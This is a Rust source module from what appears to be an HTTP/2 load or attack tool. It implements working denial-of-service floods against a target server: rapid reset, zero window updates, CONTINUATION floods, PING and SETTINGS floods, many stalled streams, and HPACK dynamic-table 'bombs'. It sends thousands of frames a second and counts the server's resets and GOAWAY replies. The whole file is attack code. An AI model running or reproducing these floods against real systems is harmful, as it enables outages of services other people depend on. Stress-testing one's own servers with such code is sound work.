//! Floods of HTTP/2 frames. Who is sent away comes again, so many times a second at most.

use super::slow::FORM;
use super::{Attacker, Pace};
use crate::link::Link;
use crate::wire::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE,
};

/// Connections a second.
const LINKS: u32 = 20;
/// Batches of frames a second.
const BATCHES: u32 = 200;
/// Frames of a batch: with these, 10,000 a second.
const BATCH: u32 = 50;
/// Bytes of the field that is kept by the other side, which has room for 4,096.
const KEPT: usize = 4_000;

/// Counts what has come: how streams and the connection were ended.
pub fn look(attacker: &mut Attacker, link: &mut Link) {
    link.receive();
    while let Some((kind, payload)) = wire::take(&mut link.inbox) {
        let code = |from: usize| {
            let bytes = payload.get(from..from + 4).and_then(|four| four.try_into().ok());
            bytes.map_or(u32::MAX, u32::from_be_bytes)
        };
        match kind {
            HEADERS => attacker.count("answers", 1),
            RST_STREAM => attacker.count(format!("reset with {}", code(0)), 1),
            GOAWAY => attacker.count(format!("sent away with {}", code(4)), 1),
            _ => {}
        }
    }
}

/// Sends batches, each of [`BATCH`] times `next`, over one connection at a time, each begun with `first`. `next` is told
/// how many were sent before over the connection.
fn flood(attacker: &mut Attacker, first: &[u8], next: impl Fn(u32) -> Vec<u8>) -> Vec<Link> {
    let (mut opening, mut batches) = (Pace::of(LINKS), Pace::of(BATCHES));
    let mut links = Vec::new();
    while !attacker.is_over() {
        opening.next();
        let Some(mut link) = attacker.open(None) else { continue };
        link.send(&[wire::hello(&[]).as_slice(), first].concat(), attacker.until);
        let mut sent = 0;
        while !link.has_ended && !attacker.is_over() {
            batches.next();
            let batch: Vec<u8> = (sent..sent + BATCH).flat_map(&next).collect();
            if !link.send(&batch, attacker.until) {
                break;
            }
            sent += BATCH;
            attacker.count("frames", BATCH.into());
            look(attacker, &mut link);
        }
        look(attacker, &mut link);
        if link.has_ended {
            attacker.count("ended", 1);
        } else {
            links.push(link);
        }
    }
    links
}

fn open_stream(request: &[u8], number: u32) -> Vec<u8> {
    wire::frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, request)
}

pub fn rapid_reset(attacker: &mut Attacker) -> Vec<Link> {
    let get = wire::request("GET", &attacker.host, "/");
    flood(attacker, &[], |number| {
        let mut frames = open_stream(&get, number);
        frames.extend(wire::frame(RST_STREAM, 0, 2 * number + 1, &8_u32.to_be_bytes()));
        frames
    })
}

pub fn zero_updates(attacker: &mut Attacker) -> Vec<Link> {
    let get = wire::request("GET", &attacker.host, "/");
    flood(attacker, &[], |number| {
        let mut frames = open_stream(&get, number);
        frames.extend(wire::frame(WINDOW_UPDATE, 0, 2 * number + 1, &[0; 4]));
        frames
    })
}

pub fn data_behind_the_end(attacker: &mut Attacker) -> Vec<Link> {
    let get = wire::request("GET", &attacker.host, "/");
    flood(attacker, &[], |number| {
        let mut frames = open_stream(&get, number);
        frames.extend(wire::frame(DATA, 0, 2 * number + 1, b"more"));
        frames
    })
}

pub fn continuations(attacker: &mut Attacker) -> Vec<Link> {
    let head = wire::frame(HEADERS, END_STREAM, 1, &wire::request("GET", &attacker.host, "/"));
    let mut field = Vec::new();
    wire::field(&mut field, b"x", &[b'x'; 1_000], false);
    flood(attacker, &head, |_| wire::frame(CONTINUATION, 0, 1, &field))
}

pub fn pings(attacker: &mut Attacker) -> Vec<Link> {
    flood(attacker, &[], |number| wire::frame(PING, 0, 0, &u64::from(number).to_be_bytes()))
}

pub fn settings(attacker: &mut Attacker) -> Vec<Link> {
    // The initial window: what was sent before is looked at again for each.
    flood(attacker, &[], |number| {
        let window = (number % 2 + 1) * 1_000;
        wire::frame(SETTINGS, 0, 0, &[&[0, 4], window.to_be_bytes().as_slice()].concat())
    })
}

pub fn empty_data(attacker: &mut Attacker) -> Vec<Link> {
    let head = wire::frame(HEADERS, END_HEADERS, 1, &wire::request("POST", &attacker.host, FORM));
    flood(attacker, &head, |_| wire::frame(DATA, 0, 1, &[]))
}

/// All of them stay open: they have bodies that don't come.
pub fn many_streams(attacker: &mut Attacker) -> Vec<Link> {
    let post = wire::request("POST", &attacker.host, FORM);
    flood(attacker, &[], |number| wire::frame(HEADERS, END_HEADERS, 2 * number + 1, &post))
}

pub fn hpack_bombs(attacker: &mut Attacker) -> Vec<Link> {
    let get = wire::request("GET", &attacker.host, "/");
    let mut first = get.clone();
    wire::field(&mut first, b"x", &[b'x'; KEPT], true);
    // It is the newest one that is kept: 16,000 times 4,000 bytes in each head.
    let bomb = [get.as_slice(), &[0x80 | 62; 16_000]].concat();
    flood(attacker, &[], |number| match number {
        0 => open_stream(&first, 0),
        // A batch is 50 of them: one in ten is enough.
        _ if number % 10 == 0 => open_stream(&bomb, number),
        _ => Vec::new(),
    })
}
